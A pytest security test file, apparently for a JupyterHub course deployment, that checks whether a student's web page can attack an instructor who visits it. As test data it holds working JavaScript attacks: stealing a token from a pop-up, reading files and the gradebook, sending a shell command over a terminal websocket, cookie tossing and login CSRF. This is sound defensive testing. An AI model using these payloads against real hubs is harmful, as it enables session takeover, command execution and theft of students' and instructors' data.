"""A page on a student's server, opened by an instructor: what it gets with one click.

Every attack is made twice: on the hub of docs/hub.md, where it must get nothing, and on one where
all users share an address, where those that need no more than that must succeed.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from .attacker import prepare, seen, visit
from .machine import COURSE, CY, TEACHER, Hub, run, running
from .term import Term

POPUP = """
const popup = open("{lab}");
const settings = await until(() => popup.document.getElementById("jupyter-config-data"));
"""
ATTACKS = [  # (what, its script, whether it succeeds with one origin)
    ("the token of a pop-up", POPUP + "return JSON.parse(settings.textContent).token", True),
    (
        "files, with that token",
        POPUP
        + """const token = JSON.parse(settings.textContent).token;
        const files = await fetch("{server}/api/contents/backward-by-hand/solutions",
            {headers: {Authorization: `token ${token}`}});
        return (await files.json()).content.length""",
        True,
    ),
    (
        "a script that runs in the pop-up",
        POPUP + "return popup.eval('document.title')",
        True,
    ),
    (
        "what a frame shows",
        """const frame = document.body.appendChild(document.createElement("iframe"));
        frame.src = "{server}/formgrader/gradebook";
        return await until(() => frame.contentDocument.querySelector("a[href*=gradebook]").href)""",
        True,
    ),
    (
        "a terminal",
        """const socket = new WebSocket("{server}/terminals/websocket/1".replace("http", "ws"));
        let said = "";
        socket.onmessage = (message) => { said += message.data; };
        socket.onopen = () => socket.send(JSON.stringify(["stdin", "echo $((6 * 7))got\\r"]));
        return await until(() => said.includes("42got") && said)""",
        True,
    ),
    (
        "files, with the cookies",
        """const files = await fetch("{server}/api/contents", {credentials: "include"});
        return files.ok && await files.text()""",
        False,
    ),
    (
        "a new token from the hub",
        """const made = await fetch("{hub}/hub/api/users/{teacher}/tokens",
            {method: "POST", body: "{}", credentials: "include"});
        return made.ok && await made.text()""",
        False,
    ),
    (
        "who it is, from the hub",
        """const me = await fetch("{hub}/hub/api/user", {credentials: "include"});
        return me.ok && await me.text()""",
        False,
    ),
]


@pytest.fixture(scope="module")
def lured(term: Term) -> Iterator[Term]:
    """Return the term, in which a student's server is the student's own program."""
    start(term)
    yield term
    run("pkill", "-KILL", "-u", CY)  # it would answer to everything that other tests ask


@pytest.fixture(scope="module")
def lured_with_one_origin(term: Term, machine: Hub) -> Iterator[Term]:
    """Return two browsers at a hub where all users share an address."""
    with running(machine, one_origin=True) as hub:
        other = Term(hub, term.chromium)
        try:
            other.open(TEACHER)
            start(other)
            yield other
        finally:
            other.close()


def start(term: Term) -> None:
    """Let the student sign in, whose server is the attacker's, and the instructor be at work."""
    prepare(term.hub)
    page = term.open(CY)
    page.get_by_role("button", name="Show me").wait_for()
    teacher = term.pages[TEACHER]
    teacher.wait_for_url(f"{term.hub.server(COURSE)}/lab**")
    made = teacher.evaluate(
        """async (server) => {
            const xsrf = document.cookie.match(/_xsrf=([^;]*)/)[1];
            const headers = {"X-XSRFToken": xsrf};
            return (await fetch(`${server}/api/terminals`, {method: "POST", headers})).status;
        }""",
        term.hub.server(COURSE),
    )
    assert made == 200


def attempt(term: Term, script: str, tries: int = 20) -> str:
    places = {
        "{server}": term.hub.server(COURSE),
        "{lab}": f"{term.hub.server(COURSE)}/lab",
        "{hub}": term.hub.address,
        "{teacher}": TEACHER,
    }
    for name, place in places.items():
        script = script.replace(name, place)
    return visit(term.hub, term.contexts[TEACHER], script, tries)


@pytest.mark.parametrize(("what", "script"), [each[:2] for each in ATTACKS])
def test_a_page_of_a_student_gets_nothing(lured, what, script):
    assert attempt(lured, script) in ("", "false", "undefined")


@pytest.mark.parametrize(("what", "script"), [each[:2] for each in ATTACKS if each[2]])
def test_with_one_origin_it_gets(lured_with_one_origin, what, script):
    assert attempt(lured_with_one_origin, script, tries=200) not in ("", "false", "undefined")


def test_no_cookie_of_the_course_goes_to_a_students_server(lured):
    attempt(lured, "return 1")
    cookies = {
        each.split("=")[0] for line in seen(lured.hub).splitlines() for each in line.split()[1:]
    }
    assert "jupyterhub-session-id" in cookies
    assert cookies <= {"jupyterhub-session-id", "_xsrf", "None"}


def test_a_student_is_not_authorised_by_who_visits(lured):
    """Sign-in goes through the hub, which would give the student's server a code for a token."""
    address = (
        f"{lured.hub.address}/hub/api/oauth2/authorize?response_type=code&state=x"
        f"&client_id=jupyterhub-user-{CY}&redirect_uri={lured.hub.server(CY)}/oauth_callback"
    )
    assert lured.status(TEACHER, address) == 403
    assert "code=" not in seen(lured.hub)


TOSS = """
for (const name of ["__Host-jupyterhub-hub-login", "__Host-jupyterhub-user-{course}",
        "jupyterhub-hub-login", "jupyterhub-user-{course}"])
    for (const path of ["/", "/hub/", "/user/{course}/", "/user/{course}/api/"])
        document.cookie = `${name}=tossed; domain=hub.test; path=${path}; secure`;
return document.cookie
"""


def test_cookies_that_a_page_sets_for_all_of_the_hub_sign_nobody_in(lured):
    tossed = attempt(lured, TOSS.replace("{course}", COURSE))
    assert "jupyterhub-hub-login=tossed" in tossed
    assert "__Host-" not in tossed
    page = lured.contexts[TEACHER].new_page()
    page.goto(f"{lured.hub.address}/hub/home")
    assert page.get_by_text(TEACHER).count()
    page.close()
    assert lured.status(TEACHER, f"{lured.hub.server(COURSE)}/api/contents") == 200


SIGN_IN = """
document.cookie = "_xsrf={xsrf}; domain=hub.test; path=/hub/; secure";
document.body.insertAdjacentHTML("beforeend",
    `<form method=post target=_blank action="{hub}/hub/login"><input name=username value={user}>
    <input name=password value={password}><input name=_xsrf value={xsrf}></form>`);
document.querySelector("form").submit();
await sleep(3000);
return "sent"
"""


def test_a_page_does_not_sign_its_visitor_in_as_its_author(lured):
    """The hub's protection is a cookie, which the page can set, and a student can get one."""
    hub = lured.hub
    context = lured.chromium.new_context(ignore_https_errors=True)
    page = context.new_page()
    thief = lured.chromium.new_context(ignore_https_errors=True)
    form = thief.new_page()
    form.goto(f"{hub.address}/hub/login")
    xsrf = form.locator("input[name=_xsrf]").get_attribute("value")
    thief.close()
    script = SIGN_IN.replace("{xsrf}", xsrf).replace("{hub}", hub.address)
    script = script.replace("{user}", CY).replace("{password}", hub.passwords[CY])
    assert visit(hub, context, script) == "sent"
    page.goto(f"{hub.address}/hub/home")
    assert page.get_by_label("Username").count()
    assert not page.get_by_text(CY).count()
    context.close()
